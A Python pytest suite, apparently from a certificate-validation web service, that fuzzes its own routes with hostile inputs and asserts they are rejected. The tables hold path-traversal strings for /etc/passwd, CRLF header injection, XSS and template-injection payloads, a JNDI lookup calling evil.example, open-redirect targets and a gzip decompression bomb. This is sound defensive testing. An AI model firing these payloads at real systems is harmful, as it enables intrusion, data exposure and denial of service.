"""What nobody types: in every parameter of every path, in every header that is read, in every body."""

import gzip
import json
import time
from http.cookies import SimpleCookie
from typing import Final
from urllib.parse import urlencode, urljoin, urlsplit

import pytest

from infra.local.stack import Route
from tests.abuse.routes import (
    JSON,
    OWN_FORM,
    Standing,
    encoded,
    header,
    is_api,
    parameters_of,
    told,
)

PATHS: Final = {
    "up": "../../../../etc/passwd",
    "up, encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "up, dots encoded": "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "up, twice encoded": "%252e%252e%252fetc%252fpasswd",
    "up, overlong": "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "up, backslashes": "..%5c..%5cetc%5cpasswd",
    "up, fullwidth": "%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc",
    "NUL": "a%00.css",
    "no UTF-8": "%ff%fe%80",
    "surrogate": "%ed%a0%80",
    "line breaks": "a%0d%0aX-Injected:%20yes%0d%0a%0d%0a<script>",
    "tab": "a%09b",
    "digits of another script": "%D9%A1" * 32,
    "fullwidth digits": "%EF%BC%90" * 32,
    "fullwidth letters": "%EF%BC%A1" * 12,
    "right to left": "%E2%80%AEabc",
    "script": "%3Cscript%3Ealert(1)%3C/script%3E",
    "script, bare": "<script>alert(1)</script>",
    "template": "%7B%7B7*7%7D%7D",
    "look-up": "$%7Bjndi:ldap://evil.example/a%7D",
    "parameters": "a;b=c",
    "another address": "http:%2f%2fevil.example%2f",
    "device": "CON",
    "dots": "...",
    "spaces": "%20%20",
    "long": "a" * 6000,
}
"""What stands for a parameter."""
TARGETS: Final = (
    *(
        "//evil.example/request",
        "///evil.example",
        "/\\evil.example/",
        "/%2f%2fevil.example",
        "/.//evil.example",
    ),
    *(
        "/request//",
        "/./request",
        "/request/../request",
        "/validate/%2e%2e/request",
        "/?x=%0d%0aX-Injected:y",
    ),
    *(
        "/request?first=%00",
        "/validate?code=%ff",
        "/validate/file?sha256=" + "a" * 5000,
        "/request?" + "a=b&" * 900,
    ),
)
RETURNS: Final = (
    *("https://evil.example/", "//evil.example", "///evil.example", "////evil.example", "/\\evil.example"),
    *(
        "\\\\evil.example",
        "/\t/evil.example",
        "/\n/evil.example",
        "/\r\nLocation: //evil.example",
        "/%0d%0aSet-Cookie: a=b",
    ),
    *(
        "/a\r\nSet-Cookie: a=b",
        "javascript:alert(1)",
        "data:text/html,x",
        " //evil.example",
        "\x00//evil.example",
    ),
    *(
        "/@evil.example",
        "@evil.example",
        ".evil.example",
        "?x=//evil.example",
        "#//evil.example",
        "http:evil.example",
    ),
    *(
        "/%2F%2Fevil.example",
        "/%5Cevil.example",
        "/.//evil.example",
        "/..//evil.example",
        "／／evil.example",
        "/　x",
    ),
    *("/" + "a" * 5000, "", "/request", "/validate/99S0-QR6Y-D40R?t=a"),
)
COOKIES: Final = (
    *(
        "language=../es",
        "language=qu/../../es",
        "language=\u00f1",
        "language=qu%00",
        "language=" + "q" * 4000,
    ),
    *("language=qu\x1b[31m", "language=<script>", "draft=..", "draft=" + "A" * 8000, "=;;;=;" * 500, "draft"),
)


def harmless(standing: Standing, route: Route, path: str, headers: dict[str, str] | None = None) -> int:
    """Send it; nothing breaks, nothing of ours is told, nothing typed is run. The status."""
    body = "to=qu&code=x" if not is_api(route) else '{"code": "x"}'
    sent = (JSON if is_api(route) else OWN_FORM) if route.method == "POST" else {}
    answer = standing.site.ask(
        route.method,
        path,
        {**sent, "Cookie": f"draft={standing.cookie}", **(headers or {})},
        body if route.method == "POST" else b"",
    )
    where = f"{route.method} {path[:100]} {answer.status}"
    assert answer.status < 500, where
    assert b"root:" not in answer.body, where
    assert b"<script>alert" not in answer.body, where
    assert b"Traceback" not in answer.body, where
    assert b"<h1>49" not in answer.body, where
    for name, value in answer.headers:
        assert name != "X-Injected", where
        assert value.isprintable(), where
        assert value.isascii(), where
    location = urlsplit(urljoin("https://own.example/x", header(answer, "Location")))
    assert location.netloc in {"own.example", _bucket_host(standing)}, where
    return answer.status


def _bucket_host(standing: Standing) -> str:
    path = f"/api/v1/certificates/{standing.code}/pdf?g={standing.grant}"
    return urlsplit(header(standing.site.ask("GET", path), "Location")).netloc


@pytest.mark.parametrize("name", PATHS)
def test_no_path_leads_where_none_should(standing: Standing, name: str) -> None:
    tried = 0
    for route in standing.routes:
        for parameter in parameters_of(route):
            path = standing.path(route, **{parameter: PATHS[name]})
            status = harmless(standing, route, path)
            tried += 1
            if parameter == "page":  # of a draft that is open: to the page that is
                assert status in {303, 404, 413, 422}
            elif route.method != "HEAD":
                assert status in {400, 403, 404, 413, 414, 422}, (route.path, parameter, status)
    assert tried >= 12


@pytest.mark.parametrize("target", TARGETS)
def test_no_target_leads_where_none_should(standing: Standing, target: str) -> None:
    for method in ("GET", "POST", "HEAD"):
        harmless(standing, Route(method, "/", ""), target)


def test_a_code_that_is_typed_otherwise_is_the_same_and_its_file_s_name_is_ours(standing: Standing) -> None:
    for typed in (standing.code.lower(), encoded(f" {standing.code} "), "-".join(standing.code)):
        answer = standing.site.ask("GET", f"/api/v1/certificates/{typed}/pdf?g={standing.grant}")
        assert answer.status == 303
        name = f"constancia-{standing.code[:4]}-{standing.code[4:8]}-{standing.code[8:]}.pdf"
        assert f"filename%3D%22{name}%22" in header(answer, "Location")


@pytest.mark.parametrize("back", RETURNS)
def test_the_switch_of_languages_leads_to_our_own_pages_alone(standing: Standing, back: str) -> None:
    answer = standing.site.ask("POST", "/language", OWN_FORM, urlencode({"to": "qu", "back": back}))

    assert answer.status == 303
    location = header(answer, "Location")
    assert location.startswith("/")
    assert not location.startswith(("//", "/\\"))
    assert urlsplit(urljoin("https://own.example/x", location)).netloc == "own.example"
    assert location.isprintable()
    (cookie,) = SimpleCookie(header(answer, "Set-Cookie")).values()
    assert (cookie.key, cookie.value) == ("language", "qu")


@pytest.mark.parametrize(
    "to", ["../es", "es\r\nX-Injected: yes", "qu; Domain=evil.example", "é", "\x00", "ES", "qu "]
)
def test_no_other_language_gets_into_a_cookie(standing: Standing, to: str) -> None:
    answer = standing.site.ask("POST", "/language", OWN_FORM, urlencode({"to": to, "back": "/"}))

    assert answer.status == 422
    assert not header(answer, "Set-Cookie")
    assert header(answer, "Content-Language") in {"es-PE"}


@pytest.mark.parametrize("cookie", COOKIES)
def test_no_cookie_breaks_a_page(standing: Standing, cookie: str) -> None:
    for route in standing.routes:
        harmless(standing, route, standing.path(route), {"Cookie": cookie})


HEADERS: Final = (
    *("Accept", "Accept-Language", "User-Agent", "X-Amzn-Trace-Id", "If-None-Match", "Idempotency-Key"),
    *("Content-Encoding", "Content-Type", "Origin", "Referer", "Sec-Fetch-Site"),
)


@pytest.mark.parametrize("name", HEADERS)
def test_no_header_breaks_an_answer(standing: Standing, name: str) -> None:
    for value in ("", 'ñ١"><script>alert(1)</script>;q=NaN\x1b[31m,br' + "a" * 9000):
        for route in standing.routes:
            harmless(standing, route, standing.path(route), {name: value})


# ---------------------------------------------------------------- bodies

BODIES: Final[dict[str, tuple[str | bytes, set[int]]]] = {
    "nothing": ("", {400}),
    "a hundred thousand lists in each other": ("[" * 100_000, {413}),
    "as many as fit": ("[" * 65_000, {400}),
    "as many as fit, closed": ("[" * 32_000 + "]" * 32_000, {400}),
    "objects in each other": ('{"code":' * 6_000 + "1" + "}" * 6_000, {400, 422}),
    "a field of lists in each other": ('{"code":' + "[" * 900 + "]" * 900 + "}", {400, 422}),
    "a number without end": ('{"code":' + "9" * 60_000 + "}", {400, 422}),
    "a fraction without end": ('{"code":0.' + "9" * 60_000 + "}", {400, 422}),
    "a power beyond all": ('{"code":1e400}', {400, 422}),
    "a power far beyond all": ('{"code":1E+100000000000}', {400, 422}),
    "no number": ('{"code":NaN}', {400}),
    "infinity": ('{"code":-Infinity}', {400}),
    "one key many times": ("{" + ",".join(['"code":"x"'] * 5_000) + "}", {422}),
    "many keys": ("{" + ",".join(f'"k{number}":1' for number in range(5_000)) + "}", {422}),
    "keys that are alike": (
        "{" + ",".join('"' + "\\u0000" * number + '":1' for number in range(130)) + "}",
        {422},
    ),
    "a long key": ('{"' + "a" * 60_000 + '":1}', {422}),
    "half a surrogate": ('{"code":"\\ud800"}', {400, 422}),
    "no UTF-8": (b'{"code":"\xff\xfe"}', {400, 422}),
    "UTF-16": ('{"code":"x"}'.encode("utf-16"), {400}),
    "a mark before it": (b'\xef\xbb\xbf{"code":"x"}', {400, 422}),
    "NUL": ('{"code":"\\u0000"}', {422}),
    "two documents": ('{"code":"x"}{"code":"y"}', {400}),
    "a comment": ('{"code":"x"/*}*/}', {400}),
    "code to run": ('{"__class__":"os","__proto__":{"a":1},"$where":"1"}', {422}),
    "a bomb": (gzip.compress(b"0" * 5_000_000), {400}),
    "64 KB": ('"' + "a" * 65_534 + '"', {422}),
    "a byte more": ('"' + "a" * 65_535 + '"', {413}),
    "ten megabytes": (b"0" * 10_485_760, {413}),
}
"""By what it is: what is sent, and what may be answered."""


@pytest.mark.parametrize("name", BODIES)
def test_no_body_costs_more_than_a_moment_or_breaks_the_api(standing: Standing, name: str) -> None:
    body, statuses = BODIES[name]
    encodings = [{}, {"Content-Encoding": "gzip"}, {"Content-Encoding": "br, gzip, identity"}]
    for route in standing.routes:
        if route.method == "POST" and is_api(route):
            for encoding in encodings:
                begun = time.process_time()
                answer = standing.site.ask("POST", standing.path(route), {**JSON, **encoding}, body)
                assert time.process_time() - begun < 2, route.path
                assert answer.status in statuses, (route.path, answer.status)
                assert len(answer.body) < 20_000
                if answer.body and header(answer, "Content-Type") == "application/problem+json":
                    assert told(answer)["status"] == answer.status


def test_of_a_key_that_comes_twice_the_last_counts_everywhere(standing: Standing) -> None:
    body = f'{{"code": "no code", "code": {json.dumps(standing.code)}}}'
    assert told(standing.site.ask("POST", "/api/v1/validations", JSON, body))["verdict"] == "authentic"
    turned = f'{{"code": {json.dumps(standing.code)}, "code": "no code"}}'
    assert standing.site.ask("POST", "/api/v1/validations", JSON, turned).status == 422


FORMS: Final[dict[str, tuple[str | bytes, str]]] = {
    "many fields": ("&".join(f"f{number}=" for number in range(5_000)), OWN_FORM["Content-Type"]),
    "a long field": ("code=" + "a" * 60_000, OWN_FORM["Content-Type"]),
    "too long": ("code=" + "a" * 70_000, OWN_FORM["Content-Type"]),
    "no UTF-8": ("code=%ff%fe&to=%ff", OWN_FORM["Content-Type"]),
    "NUL": ("code=%00&to=%00&document=%00", OWN_FORM["Content-Type"]),
    "percent signs": ("%" * 20_000, OWN_FORM["Content-Type"]),
    "separators": ("&" * 60_000, OWN_FORM["Content-Type"]),
    "a bomb": (gzip.compress(b"code=" + b"a" * 5_000_000), OWN_FORM["Content-Type"]),
    "parts": ('--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--x--', "multipart/form-data"),
    "no type": ("code=x", ""),
    "script": (urlencode(dict.fromkeys(("code", "document", "sha256", "to"), "<script>alert(1)</script>")),
               OWN_FORM["Content-Type"]),
}  # fmt: skip


@pytest.mark.parametrize("name", FORMS)
def test_no_form_costs_more_than_a_moment_or_breaks_a_page(standing: Standing, name: str) -> None:
    body, content_type = FORMS[name]
    for route in standing.routes:
        if route.method == "POST" and not is_api(route):
            begun = time.process_time()
            answer = standing.site.ask(
                "POST",
                standing.path(route),
                {**OWN_FORM, "Content-Type": content_type, "Cookie": f"draft={standing.cookie}"},
                body,
            )
            assert time.process_time() - begun < 2, route.path
            assert answer.status < 500
            assert b"<script>alert" not in answer.body
            assert len(answer.body) < 400_000
